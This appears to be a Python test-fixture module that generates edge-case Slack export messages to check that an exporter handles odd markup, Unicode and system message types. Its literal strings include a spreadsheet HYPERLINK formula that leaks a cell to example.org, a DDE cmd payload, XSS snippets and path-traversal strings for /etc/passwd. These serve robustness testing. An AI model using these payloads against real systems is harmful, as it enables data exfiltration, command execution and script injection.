"""One message of every kind that an export must not stumble over, each in its room and at its time."""

from collections.abc import Callable, Sequence

from .facts import Message
from .ids import slack_id
from .markup import Bullets, Code, Passage, Piece, Quote, Section, mrkdwn, rich_text, say
from .people import Person
from .rhythm import DAY, SECOND, clock, ts
from .scene import Maker, Scene, block_id, line, plain, spoken, system

Odd = tuple[str, float, Maker]
"""A room's key, the part of its time that has passed, and the message."""

_LITERAL = (
    "=1+1",
    '=HYPERLINK("http://www.example.org/?leak="&A1,"click here")',
    "=cmd|' /C calc'!A0",
    "+49 30 5550 1234 is the new number of the workshop",
    "-2 dB, better than nothing",
    "@SUM(A1:A9) is what the sheet says",
    "\t=1+1 after a tab",
    '<script>alert("gauge")</script>',
    "<img src=x onerror=alert(1)> & friends",
    "</script></style></textarea><!-- \"quotes\" 'too' -->",
    "I typed &amp; and &lt;b&gt; literally, not & and <b>",
    "2 * 3 * 4 = 24, snake_case_name, ~5%, `unclosed and *so on",
    "{{ config }} ${HOME} %s %(name)s {0} \\n \\u0041 C:\\temp\\new",
    "../../etc/passwd and ..\\..\\windows\\win.ini",
    "first line\n\n\nfourth line after two empty ones   \n\tindented with a tab\n",
    "carriage\r\nreturn, line\u2028separator, paragraph\u2029separator, no-break\u00a0space, zero\u200bwidth",
    "right-to-left: שלום, مرحبا، and back; override \u202eabc\u202c; isolate \u2067אבג\u2069",
    "combining e\u0301 a\u030a, ligature ﬁ, full width ＡＢＣ, emoji 👩🏽‍🚀🏴󠁧󠁢󠁳󠁣󠁴󠁿🇵🇹 ❤️, rare 𠮷野家 𝔊",
    " ",
    "0",
    "null",
    "www.example.org without a scheme, and example.org/path?a=1&b=2#c",
)

_UNESCAPED = (
    "<javascript:alert(1)|free spanners>",
    "<https://www.example.org/?q=a&amp;b=%3Cscript%3E#top|a &amp; b &lt;script&gt;>",
    "<http://www.example.org|www.example.org> <mailto:harbour@example.org|harbour@example.org> <tel:+351555|+351 555>",
    "<!here|here> <!channel> <!everyone|everyone> old forms",
    "Ask <@U0GHOST0000> or <@W0GHOST0000|ghost>, they know <#C0GHOST0000|closed-room> and <#C0GHOST0001>",
    "<!subteam^S0GHOST0000> without a name, <!date^1767225600^{date} at {time}^https://www.example.org|New Year>",
    ":unknown-emoji: :+1::skin-tone-4: :flag-pt: :woman-bouncing-ball: 12:30:45 :not emoji:",
    "*bold _and italic_* ~*both*~ `code with &lt;tags&gt;` *not\nbold* snake_case_word",
    "&gt; quoted\n&gt; twice\nnot quoted\n&gt;&gt;&gt; everything\nbelow",
    "• one\n• two\n    ◦ two and a half\n1. first\n2. second",
    "```no language\n  keeps   spaces &amp; &lt;tags&gt;\n```after it `x` ```one line```",
)


def odd_texts() -> list[Odd]:
    """The list for the home workspace; old forms come early, new ones late."""
    spread = [(0.3 + 0.65 * index / len(_LITERAL), _literal(text)) for index, text in enumerate(_LITERAL)]
    raw = [(0.05 + 0.9 * index / len(_UNESCAPED), _raw(text)) for index, text in enumerate(_UNESCAPED)]
    return [
        *(("random", at, maker) for at, maker in spread),
        *(("engineering", at, maker) for at, maker in raw),
        ("engineering", 0.50, _by(_everything)),
        ("general", 0.55, _by(_long)),
        ("random", 0.31, _by(_emoji_only)),
        ("random", 0.20, _me),
        ("random", 0.62, _me),
        ("design", 0.70, _blocks_only),
        ("design", 0.72, _blocks_differ),
        ("general", 0.60, _huddle),
        ("general", 0.44, _call),
        ("support", 0.35, _slackbot),
        ("support", 0.45, _reminder),
        ("support", 0.50, _orphan),
        ("support", 0.55, _deleted_root),
        ("support", 0.56, _reply_to_deleted),
        ("random", 0.75, _shared_message),
        ("partners-saltmarsh", 0.5, _stranger),
        ("partners-saltmarsh", 0.7, _stranger),
        ("announcements", 0.65, _posting_rules),
        ("project-nightjar", 0.3, _converted),
    ]


def _author(scene: Scene) -> Person:
    return scene.members[scene.rng.randrange(len(scene.members))]


def _by(compose: Callable[[Scene], Passage]) -> Maker:
    return lambda scene: spoken(scene, _author(scene), compose(scene))


def _literal(text: str) -> Maker:
    return lambda scene: plain(scene, _author(scene), text)


def _raw(text: str) -> Maker:
    return lambda scene: line(scene, _author(scene), text)


def _everything(scene: Scene) -> Passage:
    world, person = scene.world, scene.members[0]
    room, handle = world.public_rooms[0], world.plan.handles[0]
    moment = scene.instant + 7 * DAY
    tools: Sequence[Sequence[Piece]] = ([say("spanner", "bold")], [say("gloves "), Piece("emoji", "buoy")])
    return [
        Section([
            say("bold", "bold"), say(" "), say("italic", "italic"), say(" "), say("struck", "strike"), say(" "),
            say("x < 1 && y", "code"), say(" for "), Piece("person", world.user_id(person)), say(" in "),
            Piece("room", world.room_id(room), room.key), say(", "), Piece("team", world.handle_id(handle), handle),
            say(" and "), Piece("broadcast", "here"), say(" until "),
            Piece("date", str(moment // SECOND), clock(moment).strftime("%Y-%m-%d %H:%M UTC")), say(": "),
            Piece("link", "https://www.example.org/mooring-guide?a=1&b=2", "A & B <guide>"), say(" "),
            Piece("mail", "harbour@example.org", "harbour@example.org"), say(" "),
            Piece("emoji", "+1::skin-tone-4"),
        ]),
        Quote([say("Never trust a float\non a windy day.")]),
        Bullets(tools), Bullets([[say("blue ones")]], indent=1), Bullets(tools, ordered=True),
        Code("if (level < 0 && !frozen) {\n    panic(\"`tide`\");\n}"),
        Section([say("That is all.")]),
    ]  # fmt: skip


def _long(scene: Scene) -> Passage:
    return [Section([say(scene.speaker.prose(180))])]


def _emoji_only(scene: Scene) -> Passage:
    return [Section([Piece("emoji", "tada"), Piece("emoji", "party-tide"), Piece("emoji", "wave::skin-tone-6")])]


def _me(scene: Scene) -> Message:
    return system(scene, _author(scene), "me_message", "is off to the lighthouse &amp; back at three")


def _blocks_only(scene: Scene) -> Message:
    author = _author(scene)
    return spoken(scene, author, [Section([])]) | {
        "text": "",
        "blocks": rich_text(
            [Section([say("Only in the blocks, "), say("not", "bold"), say(" in the text.")])], "bLk01"
        ),
    }


def _blocks_differ(scene: Scene) -> Message:
    message = plain(scene, _author(scene), "This text is a fallback for old clients")
    blocks = rich_text([Section([say("This is what people saw.")])], block_id(scene.rng))
    return message | {"blocks": blocks, "edited": {"user": message["user"], "ts": ts(scene.instant + 60 * SECOND)}}


def _huddle(scene: Scene) -> Message:
    people = [scene.world.user_id(member) for member in scene.members[:3]]
    room_id = scene.world.room_id(scene.room)
    start = scene.instant // SECOND
    call = {
        "id": slack_id(scene.world.seed, "R", ts(scene.instant)),
        "name": "",
        "created_by": people[0],
        "date_start": start,
        "date_end": start + 1260,
        "participants": [],
        "participant_history": people,
        "channels": [room_id],
        "is_dm_call": False,
        "has_ended": True,
        "media_backend_type": "free_willy",
        "call_family": "huddle",
        "app_id": "A00",
    }
    passage: Passage = [Section([say("A huddle happened")])]
    return {
        "type": "message",
        "subtype": "huddle_thread",
        "user": "USLACKBOT",
        "channel": room_id,
        "text": mrkdwn(passage),
        "blocks": rich_text(passage, "hUdd1"),
        "no_notifications": True,
        "permalink": f"https://{scene.world.host}/call/{call['id']}",
        "room": call,
        "ts": ts(scene.instant),
    }


def _call(scene: Scene) -> Message:
    author = _author(scene)
    start = scene.instant // SECOND
    call_id = slack_id(scene.world.seed, "R", f"call/{start}")
    people = [{"external_id": "", "avatar_url": "", "display_name": m.real_name} for m in scene.members[:2]]
    call = {"id": call_id, "app_id": "A0MEETWELL0", "name": "Meetwell meeting", "date_start": start}
    call |= {"date_end": start + 1800, "participants": people, "join_url": "https://meet.example.org/j/5551234"}
    block = {"type": "call", "block_id": "cAll1", "call_id": call_id, "call": {"v1": call}}
    return line(scene, author, "A call happened") | {"blocks": [block]}


def _slackbot(scene: Scene) -> Message:
    text = "The manual is at <https://docs.example.org/manual>."
    return system(scene, _author(scene), "slackbot_response", text) | {"user": "USLACKBOT"}


def _reminder(scene: Scene) -> Message:
    author = _author(scene)
    text = f"<@{scene.world.user_id(author)}> set up a reminder “call the port” in this channel at 9AM tomorrow."
    return system(scene, author, "reminder_add", text)


def _orphan(scene: Scene) -> Message:
    root = {"thread_ts": "1609459200.000100", "parent_user_id": "U0GHOST0000"}
    return plain(scene, _author(scene), "Answering something that is older than this export.") | root


def _deleted_root(scene: Scene) -> Message:
    replier = _author(scene)
    scene.notes["deleted root"] = moment = ts(scene.instant)
    scene.notes["replier"] = replier.login
    thread = {"thread_ts": moment, "reply_count": 1, "reply_users_count": 1}
    thread |= {"reply_users": [scene.world.user_id(replier)], "is_locked": False, "hidden": True}
    return system(scene, replier, "tombstone", "This message was deleted.") | {"user": "USLACKBOT"} | thread


def _reply_to_deleted(scene: Scene) -> Message:
    replier = scene.world.person(scene.notes["replier"])
    root = {"thread_ts": scene.notes["deleted root"], "parent_user_id": "USLACKBOT"}
    return plain(scene, replier, "Now nobody knows what I said yes to.") | root


def _shared_message(scene: Scene) -> Message:
    world, author = scene.world, scene.world.person("marit.solberg")
    room = world.public_rooms[0]
    moment = ts(scene.instant - 2 * DAY)
    url = f"https://{world.host}/archives/{world.room_id(room)}/p{moment.replace('.', '')}"
    card = {
        "id": 1,
        "ts": moment,
        "channel_id": world.room_id(room),
        "channel_team": world.team_id,
        "author_id": world.user_id(author),
        "author_name": author.real_name,
        "author_link": f"https://{world.host}/team/{world.user_id(author)}",
        "is_msg_unfurl": True,
        "is_share": True,
        "text": "Everybody who was at sea last week: *thank you*.",
        "fallback": "[message] Everybody who was at sea last week: *thank you*.",
        "from_url": url,
        "footer": f"Posted in #{room.key}",
        "mrkdwn_in": ["text"],
    }
    return plain(scene, _author(scene), "In case you missed it:") | {"attachments": [card]}


def _stranger(scene: Scene) -> Message:
    """Somebody of another workspace: not in users.json, only in the message."""
    user_id, team = slack_id(0, "U", "stranger"), slack_id(0, "T", "elsewhere")
    message = plain(scene, scene.members[0], "Hello from the other side of the harbour :wave:")
    profile = message.get("user_profile", {}) | {"real_name": "Ingrid Ødegård", "display_name": "ingrid"}
    profile |= {"first_name": "Ingrid", "name": "ingrid", "team": team}
    return message | {"user": user_id, "team": team, "user_team": team, "source_team": team, "user_profile": profile}


def _posting_rules(scene: Scene) -> Message:
    author = scene.members[0]
    text = f"<@{scene.world.user_id(author)}> changed who can post in this channel"
    return system(scene, author, "channel_posting_permissions", text)


def _converted(scene: Scene) -> Message:
    author = scene.members[0]
    text = f"<@{scene.world.user_id(author)}> made this channel *private*. Now, it can only be joined by invitation."
    return system(scene, author, "channel_convert_to_private", text)
